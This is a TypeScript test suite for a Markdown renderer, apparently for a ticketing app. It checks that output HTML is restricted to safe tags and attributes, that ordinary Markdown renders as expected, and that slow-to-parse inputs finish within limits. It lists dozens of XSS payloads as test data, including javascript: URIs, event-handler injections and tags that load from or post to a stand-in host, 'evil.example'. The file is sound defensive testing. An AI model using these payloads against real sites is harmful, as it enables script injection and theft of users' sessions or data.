import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { limits } from "../limits.ts";
import { parseMarkdown, renderMarkdown, toHtml } from "./parse.ts";

const members = new Map([["ada", "01924f5e-7b3c-7c55-9f0e-2c8f4a7d1e90"]]);

const attack = {
  schemes: [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "[a](<\x01javascript:alert(1)>)",
    "[a]( javascript:alert(1))",
    "[a](javascript%3Aalert(1))",
    "[a](javascript\\:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](data:image/png;base64,iVBOR)",
    "[a](file:///etc/passwd)",
    "[a](blob:null/1)",
    "[a](//evil.example)",
    "[a](\\\\evil.example)",
    "[a](/v1/auth/logout)",
    "[a](#top)",
    "[a]()",
    "[a](<> 'b')",
    "![a]()",
    "[a](ftp://evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "javascript:alert(1)",
    "[a]: javascript:alert(1)\n\n[a]",
  ],
  html: [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>a</a>",
    "<body onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'http://evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=//evil.example><button>a</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "\0<script\0>alert(1)</script>",
  ],
  attributes: [
    '[a](http://b.example "\\" onclick=alert(1) x=\\"")',
    "[a](http://b.example '\"><script>alert(1)</script>')",
    '[a](http://b.example/"onmouseover="alert(1))',
    '[a](<http://b.example/" onmouseover="alert(1)>)',
    '![" onerror="alert(1)](http://b.example/x.png)',
    '![a](http://b.example/x.png"onerror="alert(1))',
    '<http://b.example/"onmouseover="alert(1)>',
    'http://b.example/"onmouseover="alert(1)',
    "http://b.example/<script>alert(1)</script>",
    '```"><script>alert(1)</script>\ncode\n```',
    '``` " onclick="alert(1)\ncode\n```',
    "~~~<img/src=x/onerror=alert(1)>\ncode\n~~~",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "**<script>**alert(1)**</script>**",
    "[<script>alert(1)</script>](http://b.example)",
    "[![a](javascript:alert(1))](http://b.example)",
    "<mailto:a@b.example?subject=%22><script>alert(1)</script>",
  ],
};

describe("hostile Markdown", () => {
  for (const [kind, vectors] of Object.entries(attack)) {
    for (const vector of vectors) {
      it(`is rendered as harmless HTML (${kind}): ${JSON.stringify(vector)}`, () => {
        assertHarmless(renderMarkdown(vector));
        assertHarmless(renderMarkdown(`a ${vector} b\n\n> 1. ${vector}`));
      });
    }
  }

  it("does not become a link if its scheme is not http, https or mailto", () => {
    for (const vector of attack.schemes) assert.doesNotMatch(renderMarkdown(vector), /<a/, vector);
  });

  it("is rendered as harmless HTML in random combinations", () => {
    const vectors = Object.values(attack).flat();
    const piece = fc.oneof(
      fc.constantFrom(...vectors, " @ada ", ..."@[]()<>\"'`*_~|#-!:&;\\\n\t ".split("")),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        assertHarmless(toHtml(parseMarkdown(pieces.join("")), members));
      }),
      { numRuns: 500 },
    );
  });
});

describe("ordinary Markdown", () => {
  const link = 'rel="noopener nofollow ugc"';
  const examples: Record<string, [string, string]> = {
    "paragraphs, with their line breaks": ["a\nb\n\nc", "<p>a<br>\nb</p>\n<p>c</p>\n"],
    emphasis: ["**a** *b* ~~c~~", "<p><strong>a</strong> <em>b</em> <s>c</s></p>\n"],
    "code with its language": [
      "```ts\n1 < 2\n```",
      '<pre><code class="language-ts">1 &lt; 2\n</code></pre>\n',
    ],
    "links with noopener, nofollow and ugc": [
      '[a](https://b.example/c?d=1&e=2 "f")',
      `<p><a href="https://b.example/c?d=1&amp;e=2" title="f" ${link}>a</a></p>\n`,
    ],
    "bare addresses": [
      "see https://b.example/c.",
      `<p>see <a href="https://b.example/c" ${link}>https://b.example/c</a>.</p>\n`,
    ],
    "mail addresses": [
      "<a@b.example>",
      `<p><a href="mailto:a@b.example" ${link}>a@b.example</a></p>\n`,
    ],
    "file names, which do not become links": ["README.md", "<p>README.md</p>\n"],
    "tables, aligned": [
      "|a|b|\n|-|:-:|\n|c|d|",
      "<table>\n<thead>\n<tr>\n" +
        '<th>a</th>\n<th style="text-align:center">b</th>\n' +
        "</tr>\n</thead>\n<tbody>\n<tr>\n" +
        '<td>c</td>\n<td style="text-align:center">d</td>\n' +
        "</tr>\n</tbody>\n</table>\n",
    ],
    "links by reference, in their three forms": [
      "[a][1], [B][] and [c]\n\n[1]: https://b.example\n[b]: <https://c.example> 'd'\n[c]: mailto:a@b.example",
      `<p><a href="https://b.example" ${link}>a</a>, ` +
        `<a href="https://c.example" title="d" ${link}>B</a> and ` +
        `<a href="mailto:a@b.example" ${link}>c</a></p>\n`,
    ],
    "a reference without a definition as it stands": [
      "[a][1] and [b]\n\n[1]: javascript:alert(1)",
      "<p>[a][1] and [b]</p>\n<p>[1]: javascript:alert(1)</p>\n",
    ],
    "an image by reference as a link": [
      "![the plan][1]\n\n[1]: https://b.example/plan.png",
      `<p><a href="https://b.example/plan.png" ${link}>the plan</a></p>\n`,
    ],
    "task lists": [
      "- [ ] todo\n- [x] **done**\n- [X] done",
      "<ul>\n" +
        '<li class="task-list-item"><input type="checkbox" disabled=""> todo</li>\n' +
        '<li class="task-list-item"><input type="checkbox" disabled="" checked=""> <strong>done</strong></li>\n' +
        '<li class="task-list-item"><input type="checkbox" disabled="" checked=""> done</li>\n' +
        "</ul>\n",
    ],
    "task lists that are numbered, loose, quoted and nested": [
      "> 1. [ ] a\n>    * [x] b\n>\n> 2. c",
      "<blockquote>\n<ol>\n" +
        '<li class="task-list-item">\n<p><input type="checkbox" disabled=""> a</p>\n<ul>\n' +
        '<li class="task-list-item"><input type="checkbox" disabled="" checked=""> b</li>\n' +
        "</ul>\n</li>\n<li>\n<p>c</p>\n</li>\n</ol>\n</blockquote>\n",
    ],
    "brackets that do not mark a task": [
      "[ ] a\n\n- [x]\n- [y] b\n- [x](https://b.example) c\n- \\[x] d\n- `[x]` e\n- f [x] g",
      "<p>[ ] a</p>\n<ul>\n<li>[x]</li>\n<li>[y] b</li>\n" +
        `<li><a href="https://b.example" ${link}>x</a> c</li>\n` +
        "<li>[x] d</li>\n<li><code>[x]</code> e</li>\n<li>f [x] g</li>\n</ul>\n",
    ],
    "a box that is a link by reference as a link": [
      "- [x] a\n\n[x]: https://b.example",
      `<ul>\n<li><a href="https://b.example" ${link}>x</a> a</li>\n</ul>\n`,
    ],
    "quotes and lists within each other": [
      "> 1. a\n> 2. b",
      "<blockquote>\n<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n</blockquote>\n",
    ],
  };
  for (const [what, [text, html]] of Object.entries(examples)) {
    it(`renders ${what}`, () => {
      assert.equal(renderMarkdown(text), html);
    });
  }

  it("renders an image as a link, so that opening a ticket loads nothing from another site", () => {
    assert.equal(
      renderMarkdown("![the *plan*](https://b.example/plan.png)"),
      `<p><a href="https://b.example/plan.png" ${link}>the plan</a></p>\n`,
    );
    assert.equal(
      renderMarkdown("![](https://b.example/plan.png)"),
      `<p><a href="https://b.example/plan.png" ${link}>https://b.example/plan.png</a></p>\n`,
    );
    assert.equal(
      renderMarkdown("[![plan](https://b.example/plan.png)](https://c.example) d"),
      `<p><a href="https://c.example" ${link}>plan</a> d</p>\n`,
    );
  });

  it("renders all of a table of 300 rows and of a quote of 1,000 lines", () => {
    const table = renderMarkdown(`|a|b|c|\n|-|-|-|\n${"|d|e|f|\n".repeat(300)}`);
    const quote = renderMarkdown("> a\n".repeat(1000));

    assert.equal(table.match(/<tr>/g)?.length, 301);
    assert.equal(quote.match(/<blockquote>/g)?.length, 1);
  });
});

describe("Markdown that is meant to be slow", () => {
  const wideTable = `${"a|".repeat(181)}\n${"-|".repeat(181)}\n${"|\n".repeat(360)}\n`;
  const longAddress = `[a]: http://b.example/${"c".repeat(30_000)}\n\n`;
  const slow: Record<string, string> = {
    "open brackets": "[",
    "open images": "![?",
    "links without an end": "[a](",
    "nested labels": `${"[".repeat(9000)}${"]".repeat(9000)}`,
    quotes: ">",
    "quotes that end at a rule": "> ***\n-|-\n",
    "quotes of an empty list": "\n-|-\n> -",
    "lazy lines in a deep quote": `${">".repeat(18)}${"a\n".repeat(30_000)}`,
    stars: "*",
    "emphasis that never closes": "**a ~~b _c ",
    "emphasis of both kinds": "*a_b**",
    backticks: "`a",
    "backticks of every length": Array.from({ length: 350 }, (_, n) => "`".repeat(n)).join(" "),
    "fences without an end": "```\n~~~\n",
    "lists in lists": Array.from({ length: 300 }, (_, n) => `${" ".repeat(n)}- a\n`).join(""),
    "lists on one line": "- + * ",
    "list items": "- a\n",
    "loose lists": "- - - a\n\n",
    "underlined headings": "a\n=\n",
    "wide tables with short rows": wideTable,
    "wide tables in quotes": `> ${wideTable.replaceAll("\n", "\n> ")}\n\n`,
    "a table of 9,000 columns": `${"a|".repeat(9000)}\n${"-|".repeat(9000)}\n${"|a\n".repeat(9000)}`,
    "many small tables": "a|b\n-|-\nc|d\n\n",
    "one long address, named often": longAddress + "[a] ".repeat(8000),
    "one long title, named often": `[a]: http://b "${'"&'.repeat(15_000)}"\n\n${"[a] ".repeat(8000)}`,
    "one long image, named often": longAddress + "![a] ".repeat(7000),
    definitions: "[a]: http://b.example\n",
    "definitions of different names": Array.from(
      { length: 3000 },
      (_, n) => `[${n}]: http://b\n`,
    ).join(""),
    "definitions without an address": "[a]:\n",
    "definitions with a title that never ends": '[a]: http://b "\n',
    "definitions with an address that never ends": "[a]: <http://b\n",
    "definitions with a name that never ends": "[a\n",
    "definitions in quotes and lists": "> - [a]: http://b\n",
    "references within references": "[a][".repeat(100),
    "task items": "- [x] a\n",
    "task items in task items": "- [ ] - [x] ",
    "addresses without an end": "**~~~http://a.bhttp://a.b/",
    "addresses in angle brackets": "<https://x",
    "mail addresses": "a@b.c mailto:",
    entities: "&amp;&#1;&",
    escapes: "\\\n",
    "empty lines": "\n",
    spaces: " ",
  };
  for (const [what, unit] of Object.entries(slow)) {
    it(`is rendered within half a second of CPU time, to at most 16 times its size: ${what}`, () => {
      const { text: length } = limits;
      const text = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
      renderMarkdown(text.slice(0, 2000));

      const inTime = () => cpuMillisecondsOf(() => renderMarkdown(text)) < 500;

      assert.ok(inTime() || inTime() || inTime(), "three times too slow");
      assert.ok(renderMarkdown(text).length < 16 * length);
    });
  }
});

const tags = new Set([
  ..."p br hr h1 h2 h3 h4 h5 h6 strong em s a code pre blockquote ul ol li".split(" "),
  ..."table thead tbody tr th td input span".split(" "),
]);
const attributes: Record<string, RegExp> = {
  "a href": /^(?:https?:\/\/|mailto:)/,
  "a title": /^/,
  "a rel": /^noopener nofollow ugc$/,
  "code class": /^language-/,
  "ol start": /^\d+$/,
  "li class": /^task-list-item$/,
  "input type": /^checkbox$/,
  "input disabled": /^$/,
  "input checked": /^$/,
  "th style": /^text-align:(?:left|center|right)$/,
  "td style": /^text-align:(?:left|center|right)$/,
  "span class": /^mention$/,
  "span data-user-id": /^[\da-f-]{36}$/,
};

/** Stricter than a browser: every "<" must begin a permitted tag, in the one form that we write. */
function assertHarmless(html: string): void {
  const shape = /[^<>]+|<\/?([a-z0-9]+)((?: [a-z-]+="[^"<>]*")*)>/gy;
  let end = 0;
  for (const [piece, tag, attributeList = ""] of html.matchAll(shape)) {
    end += piece.length;
    if (tag) assert.ok(tags.has(tag), `a tag ${tag} in ${html}`);
    const given = [...attributeList.matchAll(/ ([a-z-]+)="([^"]*)"/g)];
    for (const [, name, value = ""] of given) {
      assert.match(value, attributes[`${tag} ${name}`] ?? /^\b$/, `${tag} ${name} in ${html}`);
    }
    if (piece.startsWith("<a")) assert.match(attributeList, / href=".* rel="/, html);
  }
  assert.equal(end, html.length, `no HTML of ours: ${html.slice(end)}`);
}

/** CPU time, so that other processes of the machine do not count. */
function cpuMillisecondsOf(work: () => unknown): number {
  const before = process.cpuUsage();
  work();
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1000;
}
